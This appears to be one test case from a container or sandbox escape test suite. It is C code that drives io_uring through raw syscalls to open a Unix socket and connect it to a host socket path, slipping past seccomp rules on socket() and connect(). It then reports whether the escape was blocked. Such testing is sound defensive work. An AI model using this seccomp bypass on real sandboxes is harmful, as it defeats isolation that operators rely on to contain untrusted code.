// id: SY-10
// title: io_uring IORING_OP_SOCKET + IORING_OP_CONNECT to a host unix socket (no socket()/connect() syscalls seen)
// class: boundary
// expect: no connection
// layer: seccomp io_uring
#include "../lib/atk.h"
#include <linux/io_uring.h>
static char *sq, *cq;
static struct io_uring_sqe *sqe;
static struct io_uring_params P;
static int R;
static int go(struct io_uring_sqe *s)
{
	unsigned *t = (void *)(sq + P.sq_off.tail),
		 m = *(unsigned *)(sq + P.sq_off.ring_mask),
		 *ar = (void *)(sq + P.sq_off.array);
	unsigned i = *t & m;
	sqe[i] = *s;
	ar[i] = i;
	__atomic_store_n(t, *t + 1, __ATOMIC_RELEASE);
	if (syscall(426, R, 1, 1, 1, 0, 0) < 0)
		return -errno;
	unsigned *h = (void *)(cq + P.cq_off.head);
	struct io_uring_cqe *c = (void *)(cq + P.cq_off.cqes);
	int r = c[*h & *(unsigned *)(cq + P.cq_off.ring_mask)].res;
	__atomic_store_n(h, *h + 1, __ATOMIC_RELEASE);
	return r;
}
int main(int c, char **v)
{
	atk_init(v);
	R = syscall(425, 8, &P);
	if (R < 0)
		blocked("setup %s", strerror(errno));
	size_t l = P.sq_off.array + P.sq_entries * 4,
	       k = P.cq_off.cqes + P.cq_entries * 16;
	if (k > l)
		l = k;
	sq = mmap(0, l, 3, MAP_SHARED, R, 0);
	cq = (P.features & 1) ? sq : mmap(0, l, 3, MAP_SHARED, R, 0x8000000);
	sqe = mmap(0, P.sq_entries * sizeof *sqe, 3, MAP_SHARED, R, 0x10000000);
	struct io_uring_sqe s = { .opcode = 45 /*SOCKET*/,
				  .fd = AF_UNIX,
				  .off = SOCK_STREAM };
	int fd = go(&s);
	if (fd < 0)
		blocked("op socket %d", fd);
	struct sockaddr_un u = { .sun_family = AF_UNIX };
	snprintf(u.sun_path, 108, "%s", cfg("SOCK_RUN"));
	struct io_uring_sqe s2 = { .opcode = IORING_OP_CONNECT,
				   .fd = fd,
				   .addr = (uintptr_t)&u,
				   .off = sizeof u };
	int r = go(&s2);
	if (r < 0)
		blocked("op connect %d", r);
	dumpfd(fd);
	escaped("connected through io_uring");
}
